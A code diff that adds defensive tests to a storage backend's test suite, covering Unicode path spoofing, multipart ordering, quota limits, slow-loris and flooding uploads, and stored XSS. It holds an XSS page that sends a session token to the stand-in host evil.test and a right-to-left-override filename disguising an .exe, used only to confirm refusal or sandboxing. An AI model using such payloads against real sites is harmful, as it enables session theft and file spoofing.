@@ -4,6 +4,7 @@
 import { ListObjectsV2Command } from '@aws-sdk/client-s3';
 import { createHash, randomBytes } from 'node:crypto';
 import fs from 'node:fs';
+import http from 'node:http';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { startS3rver, startStack, type Stack, type TestUser } from './harness.ts';
@@ -193,6 +194,30 @@ export function fileSuite(makeBackend: () => Promise<BackendUnderTest>, opts: { 
       const bad = await stack.fetch('/rpc/store_file', { method: 'POST', token: alice.token, body: 'x', headers: { 'file-path': 'bad%FF%FE.bin' } });
       expect(bad.status).toBe(400);
       expect((await bad.json()).message).toMatch(/UTF-8/);
+      expect(await objectRows()).toBe(before);
+    });
+
+    test('look-alike paths: café stored as NFD is the same file as café in NFC; bidi and zero-width characters → 400', async () => {
+      const nfd = 'accents/cafe\u0301.txt';
+      const nfc = 'accents/caf\u00e9.txt';
+      const first = await store(alice.token, nfd, 'typed with a combining accent');
+      expect(first.status).toBe(200);
+      const id = await first.json();
+      const got = await retrieve(alice.token, nfc);
+      expect(got.status).toBe(200);
+      expect(await got.text()).toBe('typed with a combining accent');
+      const again = await store(alice.token, nfc, 'typed precomposed');
+      expect(await again.json()).toBe(id);
+      expect(await (await retrieve(alice.token, nfd)).text()).toBe('typed precomposed');
+      const rows = await (await stack.fetch(`/files?path=like.accents/*`, { token: alice.token })).json();
+      expect(rows.map((r: { path: string }) => r.path)).toEqual([nfc]);
+
+      const before = await objectRows();
+      for (const sneaky of ['invoice\u202Efdp.exe', 'a\u200Bb.txt', 'x\u2066y', 'bom\uFEFF.txt', 'rl\u200Fm', 'arabic\u061Cmark']) {
+        const res = await store(alice.token, sneaky, 'x');
+        expect(res.status).toBe(400);
+        expect((await res.json()).message).toMatch(/File-Path: the file path contains an? (bidirectional control|invisible) character \(U\+[0-9A-F]{4}/);
+      }
       expect(await objectRows()).toBe(before);
     });
 
@@ -393,19 +418,20 @@ export function fileSuite(makeBackend: () => Promise<BackendUnderTest>, opts: { 
   });
 
   describe('entity-linked storage', () => {
-    const upload = (auth: { token?: string; apikey?: string }, entity: unknown, name: string, bytes: Uint8Array, opts: { entityFirst?: boolean; metadata?: unknown; type?: string } = {}) => {
+    /** The form as the contract wants it: entity, then metadata, then file (last). */
+    const upload = (auth: { token?: string; apikey?: string }, entity: unknown, name: string, bytes: Uint8Array, opts: { fileFirst?: boolean; metadata?: unknown; type?: string } = {}) => {
       const form = new FormData();
       const file = new Blob([bytes as Uint8Array<ArrayBuffer>], { type: opts.type ?? 'image/png' });
-      if (opts.entityFirst) form.append('entity', JSON.stringify(entity));
-      form.append('file', file, name);
-      if (!opts.entityFirst) form.append('entity', JSON.stringify(entity));
+      if (opts.fileFirst) form.append('file', file, name);
+      form.append('entity', JSON.stringify(entity));
       if (opts.metadata !== undefined) form.append('metadata', JSON.stringify(opts.metadata));
+      if (!opts.fileFirst) form.append('file', file, name);
       return stack.fetch('/storage/upload', { method: 'POST', body: form, ...auth });
     };
     const newTodo = async (user: TestUser) =>
       (await (await stack.fetch('/todos', { method: 'POST', token: user.token, json: { title: 'with attachment' }, headers: { prefer: 'return=representation' } })).json())[0];
 
-    test('the row owner uploads (file before entity), downloads and deletes; others are refused', async () => {
+    test('the row owner uploads, downloads and deletes; others are refused', async () => {
       const todo = await newTodo(alice);
       const bytes = randomBytes(3000);
       const res = await upload({ token: alice.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'plan.pdf', bytes, { metadata: { pages: 3 }, type: 'application/pdf' });
@@ -423,12 +449,11 @@ export function fileSuite(makeBackend: () => Promise<BackendUnderTest>, opts: { 
 
       // Bob may not read, replace or delete Alice's attachment; nothing changes.
       expect((await stack.fetch(url, { token: bob.token })).status).toBe(404);
-      expect((await stack.fetch(url, { apikey: stack.anonKey })).status).toBe(401);
+      // anon has no privilege on todos at all: the table is as good as absent to it.
+      expect((await stack.fetch(url, { apikey: stack.anonKey })).status).toBe(404);
       const before = await objectRows();
       const bobUp = await upload({ token: bob.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'plan.pdf', randomBytes(10));
       expect(bobUp.status).toBe(403);
-      const bobUpFirst = await upload({ token: bob.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'plan.pdf', randomBytes(10), { entityFirst: true });
-      expect(bobUpFirst.status).toBe(403);
       expect((await stack.fetch(deleteUrl, { method: 'DELETE', token: bob.token })).status).toBe(403);
       expect(Buffer.from(await (await stack.fetch(url, { token: alice.token })).arrayBuffer()).equals(bytes)).toBe(true);
       await eventually(objectRows, (n) => n === before, 'refused uploads discarded');
@@ -436,9 +461,9 @@ export function fileSuite(makeBackend: () => Promise<BackendUnderTest>, opts: { 
       // A wrong filename is not found.
       expect((await stack.fetch(`/storage/download/todos/${todo.id}/attachment/other.pdf`, { token: alice.token })).status).toBe(404);
 
-      // Replace (entity first this time), then delete.
+      // Replace, then delete.
       const v2 = randomBytes(500);
-      expect((await upload({ token: alice.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'plan.pdf', v2, { entityFirst: true })).status).toBe(200);
+      expect((await upload({ token: alice.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'plan.pdf', v2)).status).toBe(200);
       expect(Buffer.from(await (await stack.fetch(url, { token: alice.token })).arrayBuffer()).equals(v2)).toBe(true);
       const del = await stack.fetch(deleteUrl, { method: 'DELETE', token: alice.token });
       expect(del.status).toBe(204);
@@ -495,7 +520,7 @@ export function fileSuite(makeBackend: () => Promise<BackendUnderTest>, opts: { 
         [{ table: 'todos' }, 'a.txt', 400],
       ];
       for (const [entity, name, status] of cases) {
-        const res = await upload({ token: alice.token }, entity, name, randomBytes(10), { entityFirst: true });
+        const res = await upload({ token: alice.token }, entity, name, randomBytes(10));
         expect([JSON.stringify(entity), name, res.status]).toEqual([JSON.stringify(entity), name, status]);
       }
       const noEntity = new FormData();
@@ -504,6 +529,116 @@ export function fileSuite(makeBackend: () => Promise<BackendUnderTest>, opts: { 
       expect((await stack.fetch('/storage/upload', { method: 'POST', token: alice.token, body: 'x' })).status).toBe(415);
       expect((await stack.fetch('/storage/upload', { method: 'POST', body: noEntity })).status).toBe(401);
       await eventually(objectRows, (n) => n === before, 'refused uploads discarded');
+    });
+
+    test('file part before the entity part → 400 before a byte is written, even with the anon key alone; the attachment is intact', async () => {
+      const todo = await newTodo(alice);
+      const v1 = randomBytes(100);
+      expect((await upload({ token: alice.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'a.bin', v1)).status).toBe(200);
+      await settled();
+      const rowsBefore = await objectRows();
+      const keysBefore = (await backend.storedKeys(stack)).length;
+      for (const auth of [{ apikey: stack.anonKey }, { token: alice.token }]) {
+        const res = await upload(auth, { table: 'todos', id: todo.id, field: 'attachment' }, 'a.bin', randomBytes(3 * MiB), { fileFirst: true });
+        expect(res.status).toBe(400);
+        expect((await res.json()).message).toMatch(/"file" part came before the "entity" part/);
+        expect(await objectRows()).toBe(rowsBefore);
+        expect((await backend.storedKeys(stack)).length).toBe(keysBefore);
+      }
+      // A part after the file is refused too, and what was written is removed.
+      const trailing = new FormData();
+      trailing.append('entity', JSON.stringify({ table: 'todos', id: todo.id, field: 'attachment' }));
+      trailing.append('file', new Blob(['new bytes']), 'a.bin');
+      trailing.append('metadata', '{}');
+      const late = await stack.fetch('/storage/upload', { method: 'POST', token: alice.token, body: trailing });
+      expect(late.status).toBe(400);
+      expect((await late.json()).message).toMatch(/must be the last part/);
+      const got = await stack.fetch(`/storage/download/todos/${todo.id}/attachment/a.bin`, { token: alice.token });
+      expect(Buffer.from(await got.arrayBuffer()).equals(v1)).toBe(true);
+      await settled();
+    });
+
+    test('anonymous schema probing: a private table and a table that does not exist get the same answer', async () => {
+      const todo = await newTodo(alice);
+      expect((await upload({ token: alice.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'p.txt', randomBytes(10))).status).toBe(200);
+      const answer = async (res: Response) => ({ status: res.status, body: await res.text() });
+      const anon = { apikey: stack.anonKey };
+      const tables = ['todos', 'no_such_table'];
+      const downloads = await Promise.all(tables.map(async (t) => answer(await stack.fetch(`/storage/download/${t}/${todo.id}/attachment/p.txt`, anon))));
+      const deletes = await Promise.all(tables.map(async (t) => answer(await stack.fetch(`/storage/delete/${t}/${todo.id}/attachment/p.txt`, { method: 'DELETE', ...anon }))));
+      const uploads = await Promise.all(tables.map(async (t) => answer(await upload(anon, { table: t, id: todo.id, field: 'attachment' }, 'p.txt', randomBytes(10)))));
+      // Nor which columns a private table has.
+      const columns = await Promise.all(['attachment', 'no_such_column'].map(async (f) => answer(await stack.fetch(`/storage/download/todos/${todo.id}/${f}/p.txt`, anon))));
+      for (const [existing, absent] of [downloads, deletes, uploads, columns]) expect(existing).toEqual(absent);
+      expect(downloads[0].status).toBe(404);
+      expect(JSON.parse(downloads[0].body).message).not.toMatch(/todos/);
+    });
+  });
+
+  describe('user bytes never run as a page of the API origin', () => {
+    const newPost = async () =>
+      (await (await stack.fetch('/posts', { method: 'POST', token: alice.token, json: { title: 'xss', published: true }, headers: { prefer: 'return=representation' } })).json())[0];
+    const sendForm = (post: { id: number }, type: string, name: string, bytes: string | Uint8Array) => {
+      const form = new FormData();
+      form.append('entity', JSON.stringify({ table: 'posts', id: String(post.id), field: 'cover' }));
+      form.append('file', new Blob([bytes as BlobPart], { type }), name);
+      return stack.fetch('/storage/upload', { method: 'POST', token: alice.token, body: form });
+    };
+    const expectSandboxed = (res: Response) => {
+      expect(res.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
+      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    };
+    const page = '<!doctype html><script>fetch("https://evil.test/?t=" + localStorage.getItem("plinth.session"))</script>';
+
+    test.each([
+      ['text/html', 'x.html'],
+      ['image/svg+xml', 'x.svg'],
+      ['application/xhtml+xml', 'x.xhtml'],
+      ['text/xml', 'x.xml'],
+      ['application/xml', 'y.xml'],
+      ['Text/HTML; charset=utf-8', 'y.html'],
+      ['application/javascript', 'x.js'],
+      ['application/octet-stream', 'x.bin'],
+    ])('stored XSS: an upload declared %s downloads as an attachment, sandboxed', async (type, name) => {
+      const post = await newPost();
+      const up = await sendForm(post, type, name, page);
+      expect(up.status).toBe(200);
+      for (const auth of [{ apikey: stack.anonKey }, { token: alice.token }]) {
+        const res = await stack.fetch(`/storage/download/posts/${post.id}/cover/${name}`, auth);
+        expect(res.status).toBe(200);
+        expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
+        expectSandboxed(res);
+        expect(await res.text()).toBe(page);
+      }
+      const ranged = await stack.fetch(`/storage/download/posts/${post.id}/cover/${name}`, { token: alice.token, headers: { range: 'bytes=0-9' } });
+      expect(ranged.status).toBe(206);
+      expect(ranged.headers.get('content-disposition')).toMatch(/^attachment;/);
+      expectSandboxed(ranged);
+    });
+
+    test('a png stays inline, sandboxed; so do its 206 and 304; retrieve_file is sandboxed too', async () => {
+      const post = await newPost();
+      const png = randomBytes(500);
+      expect((await sendForm(post, 'image/png', 'ok.png', png)).status).toBe(200);
+      const url = `/storage/download/posts/${post.id}/cover/ok.png`;
+      const res = await stack.fetch(url, { apikey: stack.anonKey });
+      expect(res.headers.get('content-disposition')).toMatch(/^inline;/);
+      expectSandboxed(res);
+      expect(Buffer.from(await res.arrayBuffer()).equals(png)).toBe(true);
+      const ranged = await stack.fetch(url, { apikey: stack.anonKey, headers: { range: 'bytes=1-2' } });
+      expect(ranged.status).toBe(206);
+      expectSandboxed(ranged);
+      const cached = await stack.fetch(url, { apikey: stack.anonKey, headers: { 'if-none-match': res.headers.get('etag')! } });
+      expect(cached.status).toBe(304);
+      expectSandboxed(cached);
+
+      expect((await store(alice.token, 'xss/page.html', page, { 'file-content-type': 'text/html' })).status).toBe(200);
+      const own = await retrieve(alice.token, 'xss/page.html');
+      expect(own.headers.get('content-disposition')).toMatch(/^attachment;/);
+      expectSandboxed(own);
+      const ownCached = await retrieve(alice.token, 'xss/page.html', { 'if-none-match': own.headers.get('etag')! });
+      expect(ownCached.status).toBe(304);
+      expectSandboxed(ownCached);
     });
   });
 
@@ -544,10 +679,22 @@ export function crashSuite(makeBackend: () => Promise<BackendUnderTest>) {
   let stack: Stack;
   let user: TestUser;
   const LIMIT = 8 * MiB;
+  const QUOTA = 12 * MiB;
+  const IDLE_SECONDS = 3;
 
   beforeAll(async () => {
     backend = await makeBackend();
-    stack = await startStack({ env: { ...backend.env, PLINTH_MAX_FILE_SIZE: String(LIMIT), PLINTH_SWEEP_AGE: '3600' } });
+    stack = await startStack({
+      env: {
+        ...backend.env,
+        PLINTH_MAX_FILE_SIZE: String(LIMIT),
+        PLINTH_SWEEP_AGE: '3600',
+        PLINTH_USER_QUOTA: '12MiB',
+        PLINTH_UPLOAD_IDLE_TIMEOUT: String(IDLE_SECONDS),
+        PLINTH_MAX_UPLOADS_PER_ADDRESS: '3',
+        PLINTH_FILES_ORIGIN: 'https://files.example.test',
+      },
+    });
     user = await stack.createUser();
   });
   afterAll(async () => {
@@ -622,6 +769,136 @@ export function crashSuite(makeBackend: () => Promise<BackendUnderTest>) {
     const got = await stack.fetch(`/storage/download/todos/${todo.id}/attachment/a.bin`, { token: user.token });
     expect(Buffer.from(await got.arrayBuffer()).equals(v1)).toBe(true);
     await noOrphans();
+  });
+
+  const storeAs = (who: TestUser, filePath: string, body: BodyInit) =>
+    stack.fetch('/rpc/store_file', { method: 'POST', token: who.token, body, headers: { 'content-type': 'application/octet-stream', 'file-path': filePath } });
+  const bytesOf = async (who: TestUser, filePath: string) =>
+    Buffer.from(await (await stack.fetch(`/rpc/retrieve_file?p_file_path=${encodeURIComponent(filePath)}`, { token: who.token })).arrayBuffer());
+
+  test('a quota bypass: storing past PLINTH_USER_QUOTA → 413 naming the quota; replacing counts only the difference; earlier files intact', async () => {
+    const q = await stack.createUser();
+    const a = randomBytes(5 * MiB);
+    const b = randomBytes(5 * MiB);
+    expect((await storeAs(q, 'a.bin', a)).status).toBe(200);
+    expect((await storeAs(q, 'b.bin', b)).status).toBe(200);
+    const over = await storeAs(q, 'c.bin', randomBytes(5 * MiB));
+    expect(over.status).toBe(413);
+    expect((await over.json()).message).toMatch(new RegExp(`quota of ${QUOTA} bytes \\(PLINTH_USER_QUOTA\\)`));
+    expect((await stack.fetch('/rpc/retrieve_file?p_file_path=c.bin', { token: q.token })).status).toBe(400);
+    // 5 + 5 − 5 + 6 = 11 MiB: the replaced version does not count.
+    const a2 = randomBytes(6 * MiB);
+    expect((await storeAs(q, 'a.bin', a2)).status).toBe(200);
+    // Replacing b.bin (5 MiB) with 7 MiB would make 6 + 7 = 13 MiB: refused, b.bin keeps its previous version.
+    const b2 = await storeAs(q, 'b.bin', randomBytes(7 * MiB));
+    expect(b2.status).toBe(413);
+    expect((await bytesOf(q, 'a.bin')).equals(a2)).toBe(true);
+    expect((await bytesOf(q, 'b.bin')).equals(b)).toBe(true);
+    await noOrphans();
+  });
+
+  test('a quota race: two concurrent uploads that each fit but not together → exactly one is stored', async () => {
+    const q = await stack.createUser();
+    expect((await storeAs(q, 'base.bin', randomBytes(8 * MiB))).status).toBe(200);
+    const results = await Promise.all(['one.bin', 'two.bin'].map((p) => storeAs(q, p, randomBytes(4 * MiB))));
+    expect(results.map((r) => r.status).sort()).toEqual([200, 413]);
+    const [{ n }] = await stack.sql<{ n: number }[]>`select count(*)::int as n from public.files where owner_id = ${q.id}`;
+    expect(n).toBe(2);
+    await noOrphans();
+  });
+
+  test('entity-linked files count against the uploader’s quota, and deleting one frees its room', async () => {
+    const q = await stack.createUser();
+    const [todo] = await (await stack.fetch('/todos', { method: 'POST', token: q.token, json: { title: 'big attachment' }, headers: { prefer: 'return=representation' } })).json();
+    const f = new FormData();
+    f.append('entity', JSON.stringify({ table: 'todos', id: String(todo.id), field: 'attachment' }));
+    f.append('file', new Blob([randomBytes(LIMIT) as Uint8Array<ArrayBuffer>]), 'big.bin');
+    expect((await stack.fetch('/storage/upload', { method: 'POST', token: q.token, body: f })).status).toBe(200);
+    expect((await storeAs(q, 'five.bin', randomBytes(5 * MiB))).status).toBe(413);
+    expect((await stack.fetch(`/storage/delete/todos/${todo.id}/attachment/big.bin`, { method: 'DELETE', token: q.token })).status).toBe(204);
+    expect((await storeAs(q, 'five.bin', randomBytes(5 * MiB))).status).toBe(200);
+    await noOrphans();
+  });
+
+  test('a slow-loris upload: a body that stalls past PLINTH_UPLOAD_IDLE_TIMEOUT → 408, nothing kept, the previous version intact', async () => {
+    const v1 = randomBytes(3000);
+    expect((await store('stalled.bin', v1)).status).toBe(200);
+    let release!: () => void;
+    const gate = new Promise<void>((r) => (release = r));
+    const gen = generated(4 * MiB, 256 * 1024, { bytes: MiB, until: gate });
+    const started = Date.now();
+    const pending = store('stalled.bin', gen.stream).then(
+      async (r) => ({ status: r.status, message: (await r.json()).message as string }),
+      (e: Error) => e,
+    );
+    await eventually(async () => rows('writing'), (n) => n === 1, 'upload in progress');
+    // The refusal arrives while the client is still stalled.
+    const answered = await Promise.race([pending, new Promise((r) => setTimeout(() => r('no answer'), (IDLE_SECONDS + 5) * 1000))]);
+    release();
+    expect(answered).toMatchObject({ status: 408, message: expect.stringMatching(/stalled.*PLINTH_UPLOAD_IDLE_TIMEOUT/) });
+    expect(Date.now() - started).toBeGreaterThanOrEqual(IDLE_SECONDS * 1000);
+    expect((await retrieveBytes('stalled.bin')).equals(v1)).toBe(true);
+    await noOrphans();
+  });
+
+  test('upload flooding from one address: more than PLINTH_MAX_UPLOADS_PER_ADDRESS at once → 429 with Retry-After; slots come back', async () => {
+    let open!: () => void;
+    const gate = new Promise<void>((r) => (open = r));
+    // Each sends a little every 500 ms (never idle) until the gate opens.
+    const trickle = () => {
+      let sent = 0;
+      return new ReadableStream<Uint8Array>({
+        async pull(controller) {
+          if (sent >= 10) {
+            await gate;
+            return controller.close();
+          }
+          await Promise.race([gate, new Promise((r) => setTimeout(r, 500))]);
+          sent++;
+          controller.enqueue(randomBytes(1024));
+        },
+      });
+    };
+    const pending = [0, 1, 2].map((i) => store(`slots/${i}.bin`, trickle()));
+    await eventually(async () => rows('writing'), (n) => n === 3, 'three uploads in progress');
+    const refused = await store('slots/3.bin', 'x');
+    expect(refused.status).toBe(429);
+    expect(refused.headers.get('retry-after')).toMatch(/^\d+$/);
+    expect((await refused.json()).message).toMatch(/PLINTH_MAX_UPLOADS_PER_ADDRESS/);
+    const form = new FormData();
+    form.append('entity', JSON.stringify({ table: 'todos', id: '1', field: 'attachment' }));
+    form.append('file', new Blob(['x']), 'x.bin');
+    expect((await stack.fetch('/storage/upload', { method: 'POST', token: user.token, body: form })).status).toBe(429);
+    open();
+    for (const r of await Promise.all(pending)) expect(r.status).toBe(200);
+    await eventually(async () => (await store('slots/3.bin', 'x')).status, (s) => s === 200, 'a slot after the others finished');
+    await noOrphans();
+  });
+
+  test('with PLINTH_FILES_ORIGIN, the upload’s url is on the files origin and the API origin never shows a file inline', async () => {
+    const [todo] = await (await stack.fetch('/todos', { method: 'POST', token: user.token, json: { title: 'origin' }, headers: { prefer: 'return=representation' } })).json();
+    const f = new FormData();
+    f.append('entity', JSON.stringify({ table: 'todos', id: String(todo.id), field: 'attachment' }));
+    f.append('file', new Blob([randomBytes(100)], { type: 'image/png' }), 'pic.png');
+    const up = await stack.fetch('/storage/upload', { method: 'POST', token: user.token, body: f });
+    expect(up.status).toBe(200);
+    const { url } = await up.json();
+    expect(url).toBe(`https://files.example.test/storage/download/todos/${todo.id}/attachment/pic.png`);
+    const path = new URL(url).pathname;
+    const onApi = await stack.fetch(path, { token: user.token });
+    expect(onApi.status).toBe(200);
+    expect(onApi.headers.get('content-disposition')).toMatch(/^attachment;/);
+    expect(onApi.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
+    // The same Plinth reached under the files hostname (a second DNS name, or a proxy).
+    const onFiles = await new Promise<http.IncomingMessage>((resolve, reject) =>
+      http.get({ host: '127.0.0.1', port: stack.port, path, headers: { host: 'files.example.test', authorization: `Bearer ${user.token}` } }, (res) => {
+        res.resume();
+        resolve(res);
+      }).on('error', reject),
+    );
+    expect(onFiles.statusCode).toBe(200);
+    expect(onFiles.headers['content-disposition']).toMatch(/^inline;/);
+    expect(onFiles.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
   });
 
   test('a sidecar killed mid-upload: the previous version survives byte-identical; the sweep removes the partial bytes', async () => {
